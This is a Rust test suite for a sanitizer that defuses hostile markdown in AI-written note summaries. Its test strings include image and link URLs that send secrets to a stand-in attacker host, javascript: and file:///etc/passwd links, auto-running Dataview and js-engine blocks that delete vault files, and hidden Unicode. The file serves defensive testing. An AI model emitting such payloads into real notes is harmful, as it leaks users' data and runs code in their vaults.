//! The policy on each attack of issues 35 and 41, one by one, and on legitimate summaries,
//! which must come out byte for byte (trimmed, with LF line breaks: the write restores CRLF).
//! What is left live is judged by the verifier of written bytes (`vault/inert_check.rs`),
//! which shares no parsing with the policy.

use proptest::prelude::*;

use super::{Defused, OutputPolicy, SourceLinks};

/// The note summarized: the URLs it names, and the vault files it links to or embeds (a summary
/// may show or link only those).
const SOURCE: &str =
    "Clipped from https://news.example/story and [docs](https://docs.example/a).\n\
                      ![chart](https://img.example/chart.png)\n\
                      Named here: ![[img/a.png]] ![[chart.png]] [[Other note]] [d](Private/Diary.md) \
                      ![[Attachments/c.png]] [[Note]] ![[img.png]] [[Budget]]\n";

fn defuse(answer: &str) -> (String, Defused) {
    let out = OutputPolicy::default().summary(answer, &SourceLinks::from_text(SOURCE));
    (out.as_str().to_string(), out.defused())
}

fn unchanged(answer: &str) {
    let (out, defused) = defuse(answer);
    let expected = answer.replace("\r\n", "\n");
    assert_eq!(out, expected.trim(), "a legitimate summary changed");
    assert!(defused.is_empty(), "{defused:?}");
}

/// What the verifier of written bytes finds live in `out` written as a note's summary section.
fn forbidden(out: &str, source: &SourceLinks) -> Vec<String> {
    let rule = OutputPolicy::default().summary("", source);
    let note = "A note.\n\n## Summary\n\n";
    let document = format!("{note}{out}\n");
    crate::vault::inert_check::live_in_note(
        &document,
        note.len()..document.len(),
        rule.links(),
        Some(note.find("## Summary").unwrap_or(0)),
    )
    .into_iter()
    .map(|live| live.to_string())
    .collect()
}

fn assert_inert(out: &str) {
    let left = forbidden(out, &SourceLinks::from_text(SOURCE));
    assert!(left.is_empty(), "{left:?} in {out:?}");
}

#[test]
fn a_remote_image_becomes_a_marker_naming_its_host() {
    let (out, defused) =
        defuse("Revenue grew.\n\n![chart](https://attacker.example/p.png?d=SECRET)\n");
    assert_eq!(
        out,
        "Revenue grew.\n\n\\[image removed: attacker.example\\]"
    );
    assert_eq!(defused.remote_images, 1);
    assert_inert(&out);
}

#[test]
fn a_reference_style_remote_image_and_its_definition_go() {
    let (out, defused) =
        defuse("See ![t][ref] here.\n\n[ref]: https://attacker.example/x.png?q=1\n");
    assert_eq!(
        out,
        "See \\!\\[t]&#91;ref] here.\n\n\\[ref]: `https://attacker.example/x.png?q=1`"
    );
    assert_eq!((defused.definitions, defused.links), (1, 1));
    assert_inert(&out);
}

#[test]
fn an_image_from_the_source_stays_a_link_not_an_image() {
    let (out, defused) = defuse("![the chart](https://img.example/chart.png)");
    assert_eq!(out, "[the chart](https://img.example/chart.png)");
    assert_eq!(defused.remote_images, 1);
    unchanged(&out);
}

#[test]
fn html_is_escaped_all_of_it() {
    for html in [
        "<iframe src=\"https://attacker.example/\"></iframe>",
        "<img src=\"https://attacker.example/p.png\">",
        "<video src=\"https://attacker.example/v.mp4\"></video>",
        "<audio src=x></audio>",
        "<object data=\"https://attacker.example/o\"></object>",
        "<div style=\"background: url(https://attacker.example/b.png)\">x</div>",
        "<span>harmless?</span>",
        "<!-- hidden -->",
    ] {
        let (out, defused) = defuse(&format!("Text {html} more.\n\n{html}\n"));
        assert!(defused.html >= 2, "{html}: {defused:?}");
        assert!(out.contains("&lt;"), "{out}");
        assert_inert(&out);
    }
}

#[test]
fn links_stay_only_when_their_url_is_in_the_source() {
    let (out, defused) = defuse("Read [the story](https://news.example/story) and [this](https://attacker.example/?d=SECRET).");
    assert_eq!(
        out,
        "Read [the story](https://news.example/story) and this \\[link removed: attacker.example\\]."
    );
    assert_eq!(defused.links, 1);
    assert_inert(&out);
}

#[test]
fn reference_autolink_and_bare_links_not_in_the_source_become_inert() {
    let answer = "A [ref][r], <https://attacker.example/a?d=1>, https://attacker.example/b?d=2 \
                  and www.attacker.example/c.\n\n[r]: https://attacker.example/r\n";
    let (out, defused) = defuse(answer);
    assert_eq!(defused.links, 4, "{out}");
    assert!(out.contains("`https://attacker.example/a?d=1`"), "{out}");
    assert!(out.contains("`https://attacker.example/b?d=2`"), "{out}");
    assert!(out.contains("`www.attacker.example/c`"), "{out}");
    assert_inert(&out);
    // From the source, the inline forms stay; a reference link is not on the list (the note
    // around the summary could define its label): text, its URL still linked bare.
    unchanged("See <https://news.example/story> and https://news.example/story.\n");
    let (out, defused) = defuse("[d][x].\n\n[x]: https://docs.example/a\n");
    assert_eq!(out, "\\[d]&#91;x].\n\n\\[x]: https://docs.example/a");
    assert_eq!(defused.definitions, 1);
}

#[test]
fn schemes_that_act_are_never_links_even_from_the_source() {
    let source = SourceLinks::from_text("obsidian://open?vault=v javascript:alert(1)");
    for link in [
        "[open](obsidian://advanced-uri?commandid=x)",
        "[x](javascript:alert(1))",
        "[x](file:///etc/passwd)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:msgbox)",
        "[x](obsidian://open?vault=v)",
    ] {
        let out = OutputPolicy::default().summary(link, &source);
        assert!(
            out.as_str().starts_with("x \\[link removed:")
                || out.as_str().starts_with("open \\[link removed:"),
            "{}",
            out.as_str()
        );
        assert_eq!(out.defused().links, 1);
    }
}

#[test]
fn allow_links_widens_the_list_by_host_and_never_for_schemes_that_act() {
    let policy = OutputPolicy::new(&["*.wikipedia.org".to_string()]).unwrap();
    let answer = "[A](https://en.wikipedia.org/wiki/A) [B](https://attacker.example/)";
    let out = policy.summary(answer, &SourceLinks::none());
    assert_eq!(
        out.as_str(),
        "[A](https://en.wikipedia.org/wiki/A) B \\[link removed: attacker.example\\]"
    );
    assert!(OutputPolicy::new(&["[".to_string()]).is_err());
}

#[test]
fn executing_code_blocks_are_retagged_text() {
    for info in [
        "dataviewjs",
        "dataview",
        "js-engine",
        "run-python",
        "pre-js",
        "post-sh",
        "button",
        "meta-bind-button",
        "python {cmd=true}",
        "DataViewJS",
    ] {
        let answer = format!("Intro\n\n```{info}\napp.vault.adapter.remove('x')\n```\n");
        let (out, defused) = defuse(&answer);
        assert_eq!(
            out, "Intro\n\n```text\napp.vault.adapter.remove('x')\n```",
            "{info}"
        );
        assert_eq!(defused.code_blocks, 1);
    }
    let (out, _) = defuse("> ~~~dataview\n> LIST\n> ~~~\n");
    assert_eq!(out, "> ~~~text\n> LIST\n> ~~~");
}

#[test]
fn inline_dataview_queries_stay_code_that_dataview_does_not_run() {
    let (out, defused) = defuse("Owner: `= this.owner` and `$= dv.pages()` and ` =x`.");
    assert_eq!(defused.inline_code, 3);
    assert_eq!(
        out,
        "Owner: `\u{2060}= this.owner` and `\u{2060}$= dv.pages()` and ` \u{2060}=x`."
    );
    assert_inert(&out);
    // The first line of what may be an indented code block, and a fenced block.
    let (out, _) = defuse("Intro\n\n    = this.file.name\n\n```js\n= dv.current()\n```");
    assert_eq!(
        out,
        "Intro\n\n    \\= this.file.name\n\n```js\n\u{2060}= dv.current()\n```"
    );
    assert_inert(&out);
}

#[test]
fn templater_tags_are_broken_in_text_and_in_code() {
    let (out, defused) = defuse("<% tp.file.title %> and `<%* x %>`\n\n```js\n<% y %>\n```\n");
    assert_eq!(
        out,
        "&lt;% tp.file.title %> and `< %* x %>`\n\n```js\n< % y %>\n```"
    );
    assert_eq!(defused.templater, 3);
}

#[test]
fn invisible_characters_are_removed() {
    let (out, defused) = defuse("Fine\u{E0041}\u{E0042}.\u{200B} \u{202E}txt.exe\u{7}\ttab\r\nend");
    assert_eq!(out, "Fine. txt.exe\ttab\nend");
    assert_eq!(defused.invisible, 5);
}

#[test]
fn a_zero_width_space_cannot_hide_a_link_from_the_parser() {
    let (out, _) = defuse("[x]\u{200B}(https://attacker.example/?d=1)");
    assert_eq!(out, "x \\[link removed: attacker.example\\]");
}

#[test]
fn a_leading_front_matter_block_is_dropped() {
    let (out, defused) = defuse("---\ncssclasses: [evil]\ntags: [x]\n---\n- Point\n");
    assert_eq!(out, "\\[front matter removed\\]\n\n- Point");
    assert_eq!(defused.frontmatter, 1);
    // Further down, `---` is a rule and what follows is Markdown, checked as such.
    let (out, _) = defuse("Text\n\n---\n![a](https://attacker.example/p.png)\n---\n");
    assert!(
        out.contains("\\[image removed: attacker.example\\]"),
        "{out}"
    );
}

#[test]
fn the_property_is_plain_text() {
    let policy = OutputPolicy::default();
    let source = SourceLinks::from_text(SOURCE);
    let out = policy.property(
        "Met [[Dana]] about [the story](https://news.example/story), `= this.x` <b>now</b> ![i](https://attacker.example/p.png).",
        &source,
    );
    let text = out.as_str();
    assert!(
        !text.contains("](") && !text.contains("[[") && !text.contains('`'),
        "{text}"
    );
    assert!(text.starts_with("Met Dana about the story, "), "{text}");
    assert!(out.defused().property_markup > 0);
    assert_eq!(policy.property(text, &source).as_str(), text, "idempotent");
    let plain = "Budget approved; Dana owns the rollout (Q3).";
    assert_eq!(policy.property(plain, &source).as_str(), plain);
}

#[test]
fn legitimate_summaries_come_out_byte_for_byte() {
    for answer in [
        "### Key Points\n- One\n  - Nested *emphasis* and **strong**\n- Two\n\n### Action Items\n- [ ] Call [[Dana]] ([[Journal/2026-11-18]])\n- [x] Done\n",
        "| Item | Cost |\n|---|---:|\n| A | 1 |\n| B `x` | 2 |\n",
        "See [the story](https://news.example/story) and https://news.example/story.\n",
        "```python\nprint('hi')\n```\n\n```\nplain\n```\n",
        "1. First\r\n2. Second\r\n\r\n> [!note] Callout\r\n> Body\r\n",
        "Images of the vault stay: ![local](img/a.png), ![[chart.png|300]]; [a note](Other%20note.md#Part).",
        "A cell<br>break, <kbd>Ctrl</kbd>, H<sub>2</sub>O, x<sup>2</sup>, <mark>key</mark>.",
        "Math $a+b$ and $$\\frac{1}{2}\\leq x$$ stay.\n\n```mermaid\ngraph TD\n  A[Plan] --> B{Ship?}\n```",
        "Love <3 and a < b.",
        "Math $x^2$, ~~strike~~, footnote[^1].\n\n[^1]: A note.\n",
        "Emoji 👨\u{200D}👩\u{200D}👧 and Persian می\u{200C}خواهم.",
        "## Heading\n\nText with <3 and a < b and 5 % 3.\n",
    ] {
        unchanged(answer);
    }
}

#[test]
fn legitimate_markdown_the_old_policy_lost_renders_as_intended() {
    // Code spans stay code spans, shaped so that Dataview reads no query and no field.
    let (out, _) = defuse("Use `==` for equality, `=SUM(A1:A3)` in the sheet, `std::vec::Vec`.");
    assert_eq!(
        out,
        "Use `\u{2060}==` for equality, `\u{2060}=SUM(A1:A3)` in the sheet, `std:\u{2060}:vec:\u{2060}:Vec`."
    );
    assert_inert(&out);
    // Math keeps its `<` (with a space TeX ignores, so no reader sees a tag).
    let (out, _) = defuse("$a<b>c$");
    assert_eq!(out, "$a< b>c$");
    assert_inert(&out);
    // An embed becomes a link (it would show another note's text as the summary's).
    let (out, defused) = defuse("See ![[Budget#Q3|the figures]].");
    assert_eq!(out, "See \\![[Budget#Q3|the figures]].");
    assert_eq!(defused.embeds, 1);
    // Cells past a table's header are joined to the last (GFM drops them unseen).
    let (out, _) = defuse("| a | b |\n|---|---|\n| c | d | HIDDEN |");
    assert_eq!(out, "| a | b |\n|---|---|\n| c | d \\| HIDDEN |");
    // An image inside a link becomes the link's text.
    let (out, _) = defuse("[![x](img.png)](Note.md)");
    assert_eq!(out, "[x](Note.md)");
    assert_inert(&out);
}

#[test]
fn the_policy_is_idempotent_on_each_attack() {
    for answer in [
        "![a](https://attacker.example/p.png)",
        "<iframe src=x>\n\n![a](https://attacker.example/p.png)\n</iframe>",
        "<div>\n![a](https://attacker.example/p.png)\n</div>\n",
        "`= [x](https://attacker.example)`",
        "` https://attacker.example/?d=1",
        "[link removed: attacker.example]\n\n[link removed: attacker.example]: https://attacker.example/\n",
        "a:: b and [k:: ![x](https://attacker.example/p.png)] and `(k:: v)`",
        "%%hidden%% and $\\href{https:attacker.example}{x}$ and [[a\nb]]",
        "    ```js-engine\n    app.vault\n    ```",
    ] {
        let (once, _) = defuse(answer);
        let (twice, defused) = defuse(&once);
        assert_eq!(twice, once, "{answer:?}");
        assert!(defused.is_empty(), "{answer:?}: {defused:?}");
        assert_inert(&once);
    }
}

/// Markdown-ish text made of the constructs the policy deals with, the legitimate and the
/// hostile, in any order: issue 41's grammar (definitions, indentation, fences, wikilinks with
/// `]]` in code or attributes, Dataview fields and queries, math, Mermaid, invisible
/// characters, CRLF, BOM) and issue 35's.
fn markdownish() -> impl Strategy<Value = String> {
    const PIECES: &[&str] = &[
        "text ",
        "\n",
        "\n\n",
        "- ",
        "> ",
        "    ",
        "\t",
        "`",
        "``",
        "```dataviewjs\n",
        "```python\n",
        "```\n",
        "~~~\n",
        "    ```js-engine\n",
        "```mermaid\n",
        "click A call x\n",
        "%%{init: {}}%%\n",
        "---\n",
        "<div>",
        "</div>",
        "<!--",
        "-->",
        "<pre>",
        "<img src=x>",
        "<%",
        "%",
        "%%",
        "<",
        "[",
        "]",
        "(",
        ")",
        "!",
        "\\",
        "= ",
        "$=",
        "`=",
        "= this.file.name",
        "|",
        "*",
        "[[Note]]",
        "[[Note|a `]]` ![x](https://attacker.example/w.png) `",
        "![[",
        "]]",
        "[[a\nb]]",
        "<a title=\"]]\">",
        "![a](https://attacker.example/p.png)",
        "[t](https://attacker.example/?d=1)",
        "[t](https://news.example/story)",
        "https://attacker.example/x",
        "https://news.example/story",
        "www.attacker.example",
        "<https://attacker.example/y>",
        "[r]: https://attacker.example/r\n",
        "[r]",
        "![x][r]",
        "obsidian://x",
        "[k:: ",
        "(k:: ",
        "::",
        ":",
        "\\:",
        "&#58;",
        "&lt;",
        "&",
        "$",
        "$$",
        "\\href{https://attacker.example}{x}",
        "\\href{https:attacker.example}{x}",
        "\\style{color:red}{x}",
        "\\frac{a}{b}",
        "<br>",
        "<kbd>",
        "[^1]",
        "[^1]: n\n",
        "> [!note] ",
        "- [ ] ",
        "\u{200B}",
        "\u{E0041}",
        "\u{FE01}",
        "\u{E0101}",
        "\u{AD}",
        "\u{2060}",
        "\u{2800}",
        "\u{3164}",
        "\u{FEFF}",
        "\r\n",
        "😀",
        "|---|\n",
    ];
    let piece = prop_oneof![
        proptest::sample::select(PIECES).prop_map(str::to_string),
        "[a-z ]{0,6}".prop_map(|s| s),
    ];
    proptest::collection::vec(piece, 0..28).prop_map(|pieces| pieces.concat())
}

/// Notes a summary is appended to, each leaving something for the summary to meet: an open
/// fence, an open `<pre>`, an open comment, open math, a reference definition of its own.
const NOTE_CONTEXTS: &[&str] = &[
    "",
    "A note.\n",
    "Text\n\n```js\nlet a = 1;\n",
    "<pre>\nraw",
    "Text %% hidden\n",
    "$$\n\\frac{a}{b}\n",
    "[r]: https://attacker.example/r\n[x]: https://news.example/story\n\nBody.",
    "<!-- open comment\n",
    "- item\n  ```\n  code\n",
    "\u{FEFF}---\ntags: [a]\n---\nBody\r\nline\r\n",
];

/// How many answers the property tests try: 2,000 by default (CI), more with
/// `VAULTSUM_POLICY_CASES` (issue 41 asks for 100,000, run by hand; see docs/safety.md).
fn cases() -> u32 {
    std::env::var("VAULTSUM_POLICY_CASES")
        .ok()
        .and_then(|n| n.parse().ok())
        .unwrap_or(2_000)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(cases()))]

    #[test]
    fn defused_text_is_inert_and_a_fixed_point(answer in markdownish()) {
        let (once, _) = defuse(&answer);
        let left = forbidden(&once, &SourceLinks::from_text(SOURCE));
        prop_assert!(left.is_empty(), "{:?} left in {:?} (from {:?})", left, once, answer);
        let (twice, defused) = defuse(&once);
        prop_assert_eq!(&twice, &once, "not idempotent on {:?}", answer);
        prop_assert!(defused.is_empty(), "{:?} on the second pass over {:?}", defused, once);
    }

    #[test]
    fn the_writer_writes_nothing_the_verifier_finds_live_in_any_note(
        answer in markdownish(),
        context in proptest::sample::select(NOTE_CONTEXTS),
    ) {
        // What was summarized: the note itself (its own definitions and URLs) and the source.
        let source = SourceLinks::from_text(&format!("{SOURCE}\n{context}"));
        let summary = OutputPolicy::default().summary(&answer, &source);
        if summary.as_str().trim().is_empty() {
            return Ok(()); // nothing would be written
        }
        // A note left inside a block that runs or hides is refused whole (`note_end.rs`).
        let Ok((content, live)) = crate::vault::compose_and_check(context.as_bytes(), &summary)
        else {
            return Ok(());
        };
        prop_assert!(
            live.is_empty(),
            "{:?} in {:?} (from {:?})",
            live,
            String::from_utf8_lossy(&content),
            answer
        );
        prop_assert!(content.starts_with(context.as_bytes()), "the note is not a prefix");
    }

    #[test]
    fn the_property_is_a_fixed_point_and_inert(answer in markdownish()) {
        let policy = OutputPolicy::default();
        let source = SourceLinks::from_text(SOURCE);
        let once = policy.property(&answer, &source);
        let twice = policy.property(once.as_str(), &source);
        prop_assert_eq!(twice.as_str(), once.as_str());
        let live = crate::vault::inert_check::live_in_property(once.as_str(), once.links());
        prop_assert!(live.is_empty(), "{:?} in {:?}", live, once.as_str());
    }
}

#[test]
fn a_markdown_embed_of_a_note_becomes_a_link_and_an_image_stays() {
    let (out, _) = defuse("- Details: ![d](Private/Diary.md) and ![chart](Attachments/c.png)");
    assert_eq!(
        out,
        "- Details: \\![d](Private/Diary.md) and ![chart](Attachments/c.png)"
    );
    // A note dressed as an image, which the source did not name either: never embedded.
    let (out, _) = defuse("![x](Notes/Plan.md%23.png)");
    assert!(!out.starts_with("!["), "{out}");
}
